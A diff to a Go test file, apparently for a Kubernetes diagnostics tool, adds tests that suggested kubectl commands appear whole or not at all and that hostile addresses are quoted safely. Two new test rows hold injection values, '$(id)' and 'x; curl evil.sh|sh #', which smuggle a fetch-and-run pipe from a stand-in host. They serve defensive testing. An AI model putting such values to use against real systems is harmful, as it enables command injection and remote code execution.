@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/json"
 	"flag"
+	"html"
 	"os"
 	"path/filepath"
 	"strings"
@@ -254,6 +255,33 @@ func TestTransitions(t *testing.T) {
 	}
 }
 
+// A command is offered as it is, or not at all; what it does is in the patch then.
+func TestCommandIsWhole(t *testing.T) {
+	for _, tc := range []struct {
+		command string
+		offered bool
+	}{
+		{`kubectl patch deployment web -p '{"args":["a  b"]}'`, true},
+		{"kubectl patch deployment web -p '" + strings.Repeat("x", 3000) + "'", true},
+		{"kubectl patch deployment web -p '" + strings.Repeat("x", 9000) + "'", false},
+		{"kubectl delete pod 'x\ny'", false},
+	} {
+		s := failed()
+		s.Findings = s.Findings[1:]
+		s.Findings[0].Fix = &verify.Fix{Summary: "mend it", Command: tc.command, Patch: "spec: patched\n"}
+		for _, f := range []Format{Text, HTML} {
+			var b bytes.Buffer
+			if err := Verdict(&b, verdict(s), Options{Format: f}); err != nil {
+				t.Fatal(err)
+			}
+			text := html.UnescapeString(b.String())
+			if strings.Contains(text, tc.command) != tc.offered || !tc.offered && (strings.Contains(text, tc.command[:20]) || !strings.Contains(text, "spec: patched")) {
+				t.Errorf("%s: of %.60q:\n%s", f, tc.command, text)
+			}
+		}
+	}
+}
+
 // What comes from a cluster may hold anything; no byte of it may reach a
 // terminal as a command.
 func TestHostileText(t *testing.T) {
@@ -366,6 +394,8 @@ func TestClientCommand(t *testing.T) {
 		{probe.CheckUDP, "[fd00::1]:53", "nc -u fd00::1 53"},
 		{probe.CheckTCP, "10.0.0.1:22", "nc -vz 10.0.0.1 22"},
 		{probe.CheckDNS, "db.example.com", "nslookup db.example.com"},
+		{probe.CheckHTTP, "$(id):80", "curl http://'$(id)'/"},
+		{probe.CheckTCP, "x; curl evil.sh|sh #:22", "nc -vz 'x; curl evil.sh|sh #' 22"},
 	} {
 		if got := clientCommand(c.check, c.address); got != c.want {
 			t.Errorf("%s %s: %q, want %q", c.check, c.address, got, c.want)
